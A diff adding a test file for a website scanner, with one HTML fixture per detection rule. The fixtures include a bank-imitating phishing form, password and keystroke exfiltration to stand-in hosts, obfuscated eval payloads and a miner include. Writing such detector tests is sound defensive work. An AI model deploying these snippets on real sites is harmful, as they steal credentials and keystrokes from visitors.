@@ -1,0 +1,132 @@
+/**
+ * One example per rule of rules.ts: each site below makes its rule fire. A rule without an example
+ * fails the first test, so adding a rule is one entry in rules.ts and one line here.
+ */
+import { describe, expect, it } from 'vitest';
+import { checkSite } from '../../test/support/content-corpus.js';
+import { RULE_IDS, RULES, type RuleId } from './rules.js';
+
+const page = (body: string) =>
+  `<!doctype html><html><head><title>t</title></head><body>\n${body}\n</body></html>`;
+
+const EXAMPLES: Record<RuleId, Record<string, string>> = {
+  'site.missing-entry': { 'a.html': page('<p>a</p>') },
+  'ref.root-absolute': { 'index.html': page('<a href="/about.html">关于</a>') },
+  'ref.missing-file': { 'index.html': page('<img src="img/none.png">') },
+  'file.html-in-other-type': { 'index.html': page(''), 'notes.txt': '<!doctype html><html></html>' },
+  'file.invalid-json': { 'index.html': page(''), 'data.json': '{"a":' },
+  'file.not-html': { 'index.html': 'just words' },
+  'file.large': {}, // made below: a file of 10 MB
+  'html.external-script': { 'index.html': page('<script src="https://cdn.example.com/a.js"></script>') },
+  'html.external-stylesheet': {
+    'index.html': page('<link rel="stylesheet" href="https://fonts.example.com/c.css">'),
+  },
+  'html.external-frame': { 'index.html': page('<iframe src="https://widgets.example.com/w"></iframe>') },
+  'html.embed-frame': {
+    'index.html': page('<iframe src="https://player.bilibili.com/player.html?bvid=1"></iframe>'),
+  },
+  'html.hidden-frame': {
+    'index.html': page('<iframe src="https://t.example.net/x" style="visibility:hidden"></iframe>'),
+  },
+  'html.meta-refresh': {
+    'index.html': '<meta http-equiv="refresh" content="0;url=https://elsewhere.example.org/">',
+  },
+  'link.executable': { 'index.html': page('<a href="https://dl.example.com/tool.scr">下载</a>') },
+  'svg.script': {
+    'index.html': page(''),
+    'logo.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"></svg>',
+  },
+  'form.phishing': {
+    'index.html': page(
+      '<h1>招商银行</h1><p>您的账户已锁定</p><form action="https://x.example.info/s" method="post"><input name="cardno"><input type="password"></form>',
+    ),
+  },
+  'form.password-external': {
+    'index.html': page(
+      '<form action="https://x.example.info/s" method="post"><input type="password"></form>',
+    ),
+  },
+  'form.password-suspicious': {
+    'index.html': page(
+      '<form id="f" action="#"><input type="password" name="p"></form><script>fetch("https://c.example.org/?p=" + document.getElementById("p").value)</script>',
+    ),
+  },
+  'form.server-script': {
+    'index.html': page('<form action="send.asp" method="post"><input name="msg"></form>'),
+  },
+  'form.password-demo': { 'index.html': page('<form action="#"><input type="password"></form>') },
+  'form.external-post': {
+    'index.html': page('<form action="https://api.example.net/c" method="post"><input name="m"></form>'),
+  },
+  'form.external-get': {
+    'index.html': page('<form action="https://www.bing.com/search"><input name="q"></form>'),
+  },
+  'form.service': {
+    'index.html': page('<form action="https://getform.io/f/abc" method="post"><input name="e"></form>'),
+  },
+  'js.redirect': { 'index.html': page('<script>location.assign("https://other.example.org/")</script>') },
+  'js.network-sink': {
+    'index.html': page('<script>navigator.sendBeacon("https://stats.example.org/b", location.href)</script>'),
+  },
+  'js.network-sink-input': {
+    'index.html': page(
+      '<script>document.onkeyup = function (e) { new Image().src = "https://k.example.org/?" + e.key }</script>',
+    ),
+  },
+  'js.exfil-endpoint': {
+    'index.html': page('<script>var hook = "https://abc.trycloudflare.com/x";</script>'),
+  },
+  'js.decoded-execution': {
+    'index.html': page('<script>setTimeout(decodeURIComponent("%61%6c%65%72%74%28%31%29"), 1)</script>'),
+  },
+  'js.eval-encoded': { 'index.html': page(`<script>eval("${'QUJD'.repeat(60)}")</script>`) },
+  'js.packer': {
+    'index.html': page('<script>eval(function(p,a,c,k,e,d){return p}("x",1,1,[],0,{}))</script>'),
+  },
+  'js.char-codes': {
+    'index.html': page(`<script>var s = String.fromCharCode(${'97,'.repeat(45)}97);</script>`),
+  },
+  'js.hex-escapes': { 'index.html': page(`<script>var s = "${'\\x61'.repeat(45)}";</script>`) },
+  'js.crypto-miner': { 'index.html': page('<script src="https://example.com/cryptonight.js"></script>') },
+  'text.scam': { 'index.html': page('<p>百家乐 老虎机 真人荷官 在线娱乐</p>') },
+  'text.scam-contact': { 'index.html': page('<p>百家乐 老虎机 真人荷官</p><p>客服QQ：12345678</p>') },
+  'site.check-incomplete': {}, // made below: a file whose time budget runs out
+};
+
+describe('the rule table', () => {
+  it('every rule has an example, and every example has a rule', () => {
+    expect(Object.keys(EXAMPLES).sort()).toEqual([...RULE_IDS].sort());
+  });
+
+  it.each(RULE_IDS.filter((id) => Object.keys(EXAMPLES[id]).length > 0))('%s fires on its example', (id) => {
+    const report = checkSite(EXAMPLES[id]);
+    const found = report.findings.filter((f) => f.rule === id);
+    expect(found.length, JSON.stringify(report.findings)).toBeGreaterThan(0);
+    const rule = RULES[id];
+    expect(found[0]).toMatchObject({ kind: rule.kind, severity: rule.severity, category: rule.category });
+    // Risk findings decide the level; usability findings never do.
+    if (rule.category === 'usability') expect(report.counts[rule.severity]).toBe(0);
+  });
+
+  it('file.large fires on a file of 10 MB or more', async () => {
+    const { analyzeSite } = await import('./analyze.js');
+    const report = analyzeSite(
+      [{ path: 'video.mp4', size: 10 * 1024 * 1024, extension: 'mp4', text: null, complete: false }],
+      null,
+    );
+    expect(report.findings.map((f) => f.rule)).toContain('file.large');
+  });
+
+  it('site.check-incomplete fires when a file runs out of its time budget', async () => {
+    const { analyzeSite } = await import('./analyze.js');
+    const text = `<script>${'var a = "x" + "y";\n'.repeat(20_000)}</script>`;
+    const report = analyzeSite(
+      [{ path: 'index.html', size: text.length, extension: 'html', text, complete: true }],
+      'index.html',
+      { maxMsPerFile: 0 },
+    );
+    expect(report.findings.map((f) => f.rule)).toContain('site.check-incomplete');
+    expect(report.partially_scanned_files).toEqual(['index.html']);
+    expect(report.level).toBe('medium');
+  });
+});
